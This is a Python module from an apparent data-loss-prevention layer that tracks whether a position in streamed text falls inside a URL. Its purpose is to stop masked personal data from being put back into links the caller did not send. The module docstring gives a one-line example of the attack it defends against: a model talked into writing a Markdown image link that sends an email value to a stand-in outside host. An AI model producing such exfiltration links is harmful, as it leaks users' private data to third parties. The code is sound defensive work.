"""Whether a position in a text stands inside a URL, and whether the caller wrote that URL.

A model can be talked into writing `![](https://elsewhere.example/?q=[PII:EMAIL:c4587843])`. Were the value put back there, whoever
renders the answer would deliver it. So a token inside a URL stays, unless the caller sent the same URL, up to that token,
in the request that is being answered.

A URL begins at `scheme://`, `www.`, or `//` where a link's target stands (in angle brackets only behind `](` or `]:`), also with slashes escaped for JSON or spelt as HTML entities.
Where it ends depends on what it stands in, as renderers see it: a quoted attribute goes on to its quote, whatever is in it; a
Markdown target to the parenthesis that closes it; one in running text to a blank. `mailto:` and `tel:` are no such URLs: whoever
follows them sends nothing by it.
"""

from __future__ import annotations

import re
from enum import Enum, auto

from dlp.wire.stretches import STRETCH

MAX_ADDRESS = 4096
"""Longest URL, in characters up to a token, that is recognised as one the caller sent."""

_SLASH = r"(?:\\{0,4}/|&sol;|&\#0{0,4}47;|&\#x0{0,4}2f;)"
_COLON = r"(?::|&colon;|&\#0{0,4}58;|&\#x0{0,4}3a;)"
_ATTRIBUTE = r"(?:src|href|srcset|data|action|poster|background|cite)\s{0,3}=\s{0,3}"
_START = re.compile(
    rf"""{_COLON}{_SLASH}{_SLASH}
      | https?{_COLON}\\{{0,4}}[/\\]
      | (?<![\w.@-])www\.
      | (?:[("']|\](?:\(|:)\s{{0,3}}<|\]:|{_ATTRIBUTE})\s{{0,3}}{_SLASH}{_SLASH}
      | {_ATTRIBUTE}\\{{0,4}}["']?\s{{0,3}}\\{{2}}
    """,
    re.VERBOSE | re.IGNORECASE,
)
_LONGEST = 48
"""Characters of the longest beginning, and more."""
_MARK = re.compile(r"[/\\;.](?:(?<=[:;/\\][/\\])|(?<=(?:[Ss\u017f][Oo][Ll]|.47|.2[Ff]);)|(?<=[Ww]{3}\.))")
"""Every beginning of a URL ends in one of these. `_START` itself, which can begin with anything, takes twenty times as long to find nothing."""
_LONGEST_MARK = 4
_MAY_COMPLETE = re.compile(r"[/\\;.]")
"""A piece of text without any of these completes no beginning, whatever went before it."""
_OPENER = re.compile(
    rf"""(?:(?P<attribute>{_ATTRIBUTE})?(?P<escapes>\\{{0,255}})(?P<quote>["'])\s{{0,3}}
      | (?P<bare_attribute>{_ATTRIBUTE})
      | (?P<angle><)\s{{0,3}}
      | (?P<target>\]\()\s{{0,3}}
      | (?P<definition>\]:)\s{{0,3}})\Z
    """,
    re.VERBOSE | re.IGNORECASE,
)
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}\Z")
_KEPT = 320
"""Characters of running text that are kept, so that the beginning of a URL is seen wherever it is cut: a quote in JSON that stands in
JSON eight times over has 255 backslashes before it."""


class _In(Enum):
    """What a URL stands in."""

    TEXT = auto()
    QUOTES = auto()
    ATTRIBUTE = auto()
    """A quoted attribute: only its quote ends it; browsers drop line breaks from addresses."""
    BARE_ATTRIBUTE = auto()
    ANGLES = auto()
    TARGET = auto()
    """A Markdown link's parentheses."""
    DEFINITION = auto()
    """A Markdown link definition, `[name]: url`."""


def _next_start(text: str, floor: int, at: int) -> re.Match[str] | None:
    """The first beginning of a URL in `text[floor:]` that ends behind `at`; what stood before that has been looked at."""
    look = max(floor, at - _LONGEST_MARK + 1)
    while (mark := _MARK.search(text, look)) is not None:
        look = mark.end()
        high = look + _LONGEST
        match = _START.search(text, max(floor, look - _LONGEST), high)
        while match is not None and match.end() <= at:
            match = _START.search(text, match.start() + 1, high)
        if match is not None and match.start() < look:  # else it has a mark of its own, behind which it may go on
            return match
    return None


class LinkTracker:
    """Follows one text. `feed` it everything in order; `inside` tells where the end of it stands. `repr` shows no text.

    Args:
        sent: Addresses that the caller wrote, as `address_of_token` gave them for the request's texts.
    """

    __slots__ = ("_address", "_backslashes", "_depth", "_escapes", "_place", "_quote", "_sent", "_tail")

    def __init__(self, sent: frozenset[str] = frozenset()) -> None:
        self._sent = sent
        self._tail = ""
        self._place: _In | None = None
        self._address = ""
        self._quote = ""
        self._escapes = 0
        self._backslashes = 0
        self._depth = 0

    @property
    def inside(self) -> bool:
        return self._place is not None

    def feed(self, text: str) -> None:
        """Take the next piece of the text, of any length."""
        if len(text) > STRETCH:
            for at in range(0, len(text), STRETCH):
                self.feed(text[at : at + STRETCH])
            return
        if self._place is None and _MAY_COMPLETE.search(text) is None:
            self._tail = (self._tail + text)[-_KEPT:]
            return
        at = floor = 0
        if self._place is None:
            at = len(self._tail)
            text = self._tail + text
        while True:
            if self._place is not None:
                end = self._follow(text, at)
                if end is None:
                    return
                at = end
                floor = at - 1  # what ended the URL may open the next
            match = _next_start(text, floor, at)
            if match is None:
                self._tail = text[max(floor, len(text) - _KEPT) :]
                return
            self._enter(text[max(floor, match.start() - _KEPT) : match.start()], match.group())
            at = match.end()

    def address_of_token(self, digest: str) -> str | None:
        """The URL up to and including a token that stands here, None outside URLs. Goes on behind the token."""
        if self._place is None:
            return None
        self._address = f"{self._address}\0{digest}"[: MAX_ADDRESS + 1]
        return self._address if len(self._address) <= MAX_ADDRESS else None

    def admits(self, digest: str, value: str) -> bool:
        """Whether `value` may stand here in place of its token; if so, goes on behind it."""
        if self._place is None:
            self.feed(value)  # it may be a URL, which the text goes on with
            return True
        address = f"{self._address}\0{digest}"
        if address not in self._sent:
            return False
        self._address = address
        return True

    def __repr__(self) -> str:
        return f"<LinkTracker {'inside' if self.inside else 'outside'} a URL>"

    def _enter(self, before: str, start: str) -> None:
        scheme = _SCHEME.search(before) if start[:1] in ":&" else None
        if scheme is not None:
            before, start = before[: scheme.start()], scheme.group() + start
        else:  # an opener that belongs to the pattern itself
            opened = len(start) - len(start.lstrip("(\"'<]: \t\r\n"))
            if attribute := re.match(_ATTRIBUTE + r"\\{0,4}[\"']?", start, re.IGNORECASE):
                opened = attribute.end()
            before, start = before + start[:opened], start[opened:]
        self._address = start.replace("\\", "").strip()
        self._backslashes = len(start) - len(start.rstrip("\\"))
        self._depth = self._escapes = 0
        self._tail = ""
        opener = _OPENER.search(before)
        if opener is None:
            self._place = _In.TEXT
        elif opener["quote"]:
            self._place = _In.ATTRIBUTE if opener["attribute"] else _In.QUOTES
            self._quote, self._escapes = opener["quote"], len(opener["escapes"])
        elif opener["bare_attribute"]:
            self._place = _In.BARE_ATTRIBUTE
        elif opener["angle"]:
            self._place = _In.ANGLES
        else:
            self._place = _In.TARGET if opener["target"] else _In.DEFINITION

    def _follow(self, text: str, at: int) -> int | None:
        """Go on inside the URL; behind what ends it, or None."""
        start = at
        while at < len(text):
            character = text[at]
            at += 1
            if self._ends(character):
                self._place, self._tail = None, character
                return at
            self._backslashes = self._backslashes + 1 if character == "\\" else 0
        if len(self._address) <= MAX_ADDRESS:
            self._address += text[start : start + MAX_ADDRESS].replace("\\", "")
        return None

    def _ends(self, character: str) -> bool:
        place = self._place
        if place is _In.TEXT:
            return character.isspace() or character in '"<>`' or (self._backslashes > 0 and character in "nrt")
        if place in (_In.QUOTES, _In.ATTRIBUTE):
            closes = character == self._quote and self._backslashes <= self._escapes
            return closes or (character == "\n" and place is _In.QUOTES)
        if place is _In.ANGLES:
            return character in ">\n"
        if place is _In.BARE_ATTRIBUTE:
            return character.isspace() or character == ">"
        if place is _In.TARGET and self._backslashes % 2 == 0 and character in "()":
            self._depth += 1 if character == "(" else -1
            return self._depth < 0
        return character.isspace()
